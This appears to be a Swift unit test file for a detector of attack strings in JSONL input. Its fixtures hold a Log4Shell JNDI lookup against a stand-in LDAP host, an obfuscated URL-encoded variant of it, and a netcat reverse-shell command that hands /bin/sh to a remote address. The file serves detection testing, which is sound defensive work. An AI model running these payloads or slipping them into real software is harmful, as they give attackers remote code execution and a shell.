import Bytes
import Testing

@testable import Detectors

private func detect(_ line: String) -> String {
  String(decoding: line.withView { detectJSONL(line: $0) }, as: UTF8.self)
}

@Suite struct DetectLineTests {
  @Test func writesWhatTheContractAsks() {
    #expect(
      detect(#"{"id":"a","text":"${jndi:ldap://h.example:389/x}"}"#)
        == #"{"id":"a","detections":[{"kind":"log4shell","scheme":"ldap","host":"h.example","port":389,"path":"/x","leaks":[]}]}"#
    )
    #expect(
      detect(#"{"id":"b","text":"nc -e /bin/sh 198.51.100.9 4242"}"#)
        == #"{"id":"b","detections":[{"kind":"revshell","technique":"nc","host":"198.51.100.9","port":4242}]}"#)
  }

  @Test(arguments: [
    ("{}", "null"), ("", "null"), ("{\"id\":7}", "7"), ("not json", "null"), ("{\"id\":\"x\",\"text\":1}", "\"x\""),
  ])
  func anyLineGivesAnObject(line: String, id: String) { #expect(detect(line) == "{\"id\":\(id),\"detections\":[]}") }

  @Test func decodeTellsTheSteps() {
    let out = String(decoding: "%24%7B${lower:J}ndi:ldap://h.example/a%7D".withView { decodeLine($0) }, as: UTF8.self)
    #expect(out.contains(#""normal_form":"${jndi:ldap://h.example/a}""#))
    #expect(out.contains("URL encoding undone"))
    #expect("nothing here".withView { decodeLine($0) }.isEmpty)
  }
}
